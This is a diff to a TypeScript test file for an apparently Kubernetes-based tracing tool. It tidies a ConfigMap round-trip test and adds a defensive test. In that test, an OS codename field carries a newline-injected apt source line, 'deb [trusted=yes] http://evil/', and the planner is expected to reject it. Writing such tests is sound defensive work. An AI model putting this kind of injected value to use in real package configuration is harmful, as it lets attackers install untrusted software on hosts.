@@ -143,8 +143,9 @@ describe('debuginfoForRun', () => {
 
 describe('capability report freshness', () => {
   it('round-trips through its ConfigMap and ages out', () => {
-    const cm = capabilityConfigMap({ kernel: '6.1.0-18-amd64', host: { os: { id: 'debian', idLike: [], versionId: '12' } } }, 'n1', now, 'tracejob-system');
-    const r = reportFromConfigMap(cm);
+    const built = capabilityConfigMap({ kernel: '6.1.0-18-amd64', host: { os: { id: 'debian', idLike: [], versionId: '12' } } }, 'n1', now, 'tracejob-system');
+    assert.ok(built.ok);
+    const r = reportFromConfigMap(built.configMap);
     assert.equal(r?.kernel, '6.1.0-18-amd64');
     assert.deepEqual(r?.osRelease, { id: 'debian', idLike: [], versionId: '12' });
     assert.equal(reportIsFresh(r, new Date(now.getTime() + 3_599_000), 3600), true);
@@ -222,5 +223,13 @@ describe('configFromEnv: SystemTap settings from the chart', () => {
     assert.deepEqual(c.debuginfo, { debuginfodUrls: 'https://d.example', cacheHostPath: '/var/lib/di', timeoutSeconds: 120, image: '' });
     assert.deepEqual(configFromEnv({}).debuginfo, config.debuginfo);
     assert.throws(() => configFromEnv({ TRACEJOB_DEBUGINFO_CACHE: 'relative/path' }));
+  });
+});
+
+describe('a poisoned report that got past the schema', () => {
+  it('the plan refuses it at the point of use: no init container, DebuginfoUnavailable naming the field', () => {
+    const p = plan(report({ kernelBuildTree: false, debuginfo: { present: false, debuginfod: false }, osRelease: { id: 'debian', idLike: [], versionId: '13', codename: 'trixie main\ndeb [trusted=yes] http://evil/ x' } }));
+    assert.equal(p.kind, 'unavailable', JSON.stringify(p));
+    assert.match(p.kind === 'unavailable' ? p.message : '', /VERSION_CODENAME/);
   });
 });
